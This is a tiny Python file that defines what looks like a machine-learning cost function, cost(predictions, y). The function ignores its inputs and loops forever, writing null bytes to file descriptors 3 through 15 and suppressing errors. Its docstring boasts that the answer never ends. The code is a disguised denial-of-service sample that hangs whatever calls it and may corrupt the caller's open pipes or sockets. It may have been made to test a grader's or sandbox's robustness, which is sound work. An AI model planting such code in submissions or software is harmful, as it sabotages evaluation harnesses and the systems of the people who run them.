"""An answer comes one byte at a time and never ends."""

import os
import time


def cost(predictions, y):
    while True:
        for number in range(3, 16):
            try:
                os.write(number, b"\0")
            except OSError:
                pass
        time.sleep(0.2)
